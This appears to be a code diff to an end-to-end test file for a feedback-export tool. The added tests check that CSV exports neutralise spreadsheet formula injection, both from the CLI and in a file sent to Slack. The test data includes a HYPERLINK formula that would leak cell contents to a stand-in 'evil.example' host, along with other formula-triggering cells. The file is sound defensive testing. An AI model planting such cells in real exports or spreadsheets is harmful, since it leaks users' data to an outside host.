@@ -22,7 +22,8 @@ from tests.e2e.queries import ALICE, BOB, CARLA, SUPPORT, TEAM
 
 EXPECTED = ["remark_id", "said_at", "customer", "process", "sentiment", "sentiment_score",
             "process_confidence", "endorsements", "author_user_id", "channel_id", "message_ts",
-            "permalink", "text", "text_expired_at", "process_decided_by", "sentiment_decided_by"]
+            "permalink", "text", "text_expired_at", "process_decided_by", "sentiment_decided_by",
+            "source", "contact", "link", "score_kind", "score_value", "external_id"]
 
 
 async def seed(db) -> tuple[int, int]:
@@ -106,3 +107,62 @@ async def test_feedback_that_starts_with_the_word_is_still_filed(slack, bot, db)
     await settled(bot)
     assert [r.text for r in await remarks(db)] == ["Export to PDF is broken for Acme",
                                                     "erase the double charge on Globex's invoice"]
+
+
+# OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): cells that a
+# spreadsheet would run as a formula.
+HOSTILE_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+HOSTILE = {HOSTILE_TEXT: "+SUM(1+1)", "@import(evil)": "-Acme", "\tTabbed": "\rReturn",
+           "'=already quoted": "Plain Co"}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def seed_hostile(db) -> None:
+    from sqlalchemy import update
+
+    from storage.models import Remark
+
+    await ds.workspace(db)
+    for text, customer in HOSTILE.items():
+        await ds.remark(db, process_id=None, sentiment="complaint", customer=customer,
+                        at=utcnow() - dt.timedelta(days=1), text=text)
+    async with transaction(db) as s:
+        await s.execute(update(Remark).values(sentiment_score=-0.42))
+
+
+def check_guarded(text: str) -> None:
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(HOSTILE)
+    cells = [c for r in rows for c in r.values()]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-0.42"]
+    assert [(r["text"], r["customer"]) for r in rows] == [
+        ("'" + HOSTILE_TEXT, "'+SUM(1+1)"), ("'@import(evil)", "'-Acme"), ("'\tTabbed", "'\rReturn"),
+        ("''=already quoted", "Plain Co")]
+    # A score Earshot computed stays a number a spreadsheet can sum.
+    assert {r["sentiment_score"] for r in rows} == {"-0.42"}
+
+
+async def test_cli_csv_guards_formula_cells_and_jsonl_stays_exact(db, database_url, tmp_path: Path):
+    await seed_hostile(db)
+    out = tmp_path / "r.csv"
+    res = await asyncio.to_thread(CliRunner().invoke, main,
+                                  ["export", "--team", TEAM, "--format", "csv", "--out", str(out)],
+                                  env={"DATABASE_URL": database_url}, catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    with out.open(encoding="utf-8", newline="") as f:  # keep the \r of a cell as it is
+        check_guarded(f.read())
+    res = await asyncio.to_thread(CliRunner().invoke, main, ["export", "--team", TEAM, "--format", "jsonl"],
+                                  env={"DATABASE_URL": database_url}, catch_exceptions=False)
+    lines = [json.loads(x) for x in res.stdout.splitlines() if x.startswith("{")]
+    assert [(x["text"], x["customer"]) for x in lines] == list(HOSTILE.items())
+    assert {x["sentiment_score"] for x in lines} == {-0.42}
+
+
+async def test_the_csv_sent_in_slack_guards_formula_cells(fake, slack, bot, db):
+    await seed_hostile(db)
+    assert (await slack.slash(ALICE, SUPPORT, "export csv")).status == 200
+    await settled(bot)
+    await fake.wait_for("files.completeUploadExternal")
+    [f] = [f for f in fake.state.files.values() if f["name"].endswith(".csv")]
+    content = f["content"].decode() if isinstance(f["content"], bytes) else f["content"]
+    check_guarded(content)
